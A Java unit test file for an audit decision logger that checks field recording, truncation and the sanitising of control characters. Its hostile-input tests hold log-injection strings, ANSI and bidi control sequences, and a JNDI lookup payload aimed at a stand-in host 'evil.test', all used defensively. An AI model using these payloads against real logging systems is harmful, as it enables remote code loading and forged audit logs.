package dev.postern.common.boot;

import static org.assertj.core.api.Assertions.assertThat;

import dev.postern.common.auth.AuthError;
import dev.postern.common.auth.Call;
import dev.postern.common.auth.ClientAddress;
import dev.postern.common.auth.ClientPrincipal;
import dev.postern.common.auth.Decision;
import dev.postern.common.auth.Proof;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.jboss.logmanager.ExtLogRecord;
import org.jboss.logmanager.Level;
import org.jboss.logmanager.Logger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class JsonDecisionLogTest {
  private static final Call CALL =
      new Call(
          "REST", "ProfileResource.get", "trace-1", ClientAddress.parse("192.0.2.1").orElseThrow());

  private final Logger logger = Logger.getLogger("postern.audit");
  private final List<ExtLogRecord> lines = new ArrayList<>();
  private final Handler recording =
      new Handler() {
        @Override
        public void publish(LogRecord line) {
          lines.add(ExtLogRecord.wrap(line));
        }

        @Override
        public void flush() {}

        @Override
        public void close() {}
      };

  @BeforeEach
  void listen() {
    logger.setLevel(Level.INFO);
    logger.addHandler(recording);
  }

  @AfterEach
  void stopListening() {
    logger.removeHandler(recording);
    logger.setLevel(null);
  }

  @Test
  void writesOneLineWithEveryField() {
    new JsonDecisionLog().record(CALL, allowed("client-a", "customer-1", "jti j-1"));

    assertThat(lines).hasSize(1);
    assertThat(lines.get(0).getMessage()).isEqualTo("decision");
    assertThat(lines.get(0).getLoggerName()).isEqualTo("postern.audit");
    assertThat(lines.get(0).getMdcCopy())
        .containsEntry("transport", "REST")
        .containsEntry("route", "ProfileResource.get")
        .containsEntry("trace_id", "trace-1")
        .containsEntry("peer", "192.0.2.1")
        .containsEntry("outcome", "ALLOWED")
        .containsEntry("reason", "allowed")
        .containsEntry("detail", "jti j-1")
        .containsEntry("client", "client-a")
        .containsEntry("customer", "customer-1");
  }

  @Test
  void omitsUnknownFields() {
    new JsonDecisionLog()
        .record(CALL, new Decision.Refused(AuthError.BEARER_INVALID, "bad signature"));

    assertThat(lines.get(0).getMdcCopy())
        .containsEntry("outcome", "REFUSED")
        .containsEntry("reason", "bearer_invalid")
        .containsEntry("detail", "bad signature")
        .doesNotContainKeys("client", "customer");
  }

  @Test
  void hostileTextStaysOneHarmlessLine() {
    String evil = "x\r\n{\"outcome\":\"ALLOWED\"}\u001b[2J${jndi:ldap://evil.test/a}%s{0}";
    Call call = new Call(evil, evil, evil, ClientAddress.UNKNOWN);

    new JsonDecisionLog().record(call, allowed(evil, evil, evil));

    assertThat(lines).hasSize(1);
    assertThat(lines.get(0).getFormattedMessage()).isEqualTo("decision");
    assertThat(lines.get(0).getMdcCopy())
        .containsEntry("outcome", "ALLOWED")
        .containsEntry("reason", "allowed");
    for (String field : List.of("transport", "route", "trace_id", "detail", "client")) {
      assertThat(lines.get(0).getMdcCopy())
          .containsEntry(field, "x??{\"outcome\":\"ALLOWED\"}?[2J${jndi:ldap://evil.test/a}%s{0}");
    }
  }

  private static Decision allowed(String clientId, String customerId, String detail) {
    return new Decision.Allowed(
        new ClientPrincipal(clientId, Set.of()), Optional.of(customerId), detail, Proof.NOTHING);
  }

  @ParameterizedTest
  @CsvSource(
      quoteCharacter = '`',
      value = {
        "`a\r\nb`,a??b",
        "`\u001b[31mred\u001b[0m`,?[31mred?[0m",
        "`a\u0000b\u0007\u0008\u007f`,a?b???",
        "`a\u0085b\u009b31m`,a?b?31m",
        "`a\u2028b\u2029c`,a?b?c",
        "`a\u202Eb\u2066c\u200B`,a?b?c?",
        "`\uFEFFa\t`,?a?",
        "${jndi:ldap://evil.test/a},${jndi:ldap://evil.test/a}",
        "caf\u00e9 \uD83D\uDE00,caf\u00e9 \uD83D\uDE00"
      })
  void printableKeepsTextAndReplacesControls(String written, String printed) {
    assertThat(JsonDecisionLog.printable(written)).isEqualTo(printed);
  }

  @ParameterizedTest
  @ValueSource(strings = {"\uD800", "\uDC00", "\uDC00\uD800x"})
  void printableReplacesLoneSurrogates(String lone) {
    assertThat(JsonDecisionLog.printable(lone)).doesNotContain(lone).contains("?");
  }

  @Test
  void printableCutsAt256Characters() {
    assertThat(JsonDecisionLog.printable("x".repeat(256))).hasSize(256);
    assertThat(JsonDecisionLog.printable("x".repeat(257))).hasSize(256);
    assertThat(JsonDecisionLog.printable("\n".repeat(1_000_000))).isEqualTo("?".repeat(256));
  }

  @Test
  void printableCutsNoCharacterInHalf() {
    String faces = "\uD83D\uDE00".repeat(300);

    assertThat(JsonDecisionLog.printable(faces)).isEqualTo("\uD83D\uDE00".repeat(256));
  }

  @Property
  void printableNeverHoldsAControlCharacter(@ForAll String anything) {
    assertThat(JsonDecisionLog.printable(anything).codePoints())
        .hasSizeLessThanOrEqualTo(JsonDecisionLog.MAX_FIELD_CHARS)
        .noneMatch(c -> Character.isISOControl(c) || Character.getType(c) == Character.FORMAT);
  }
}
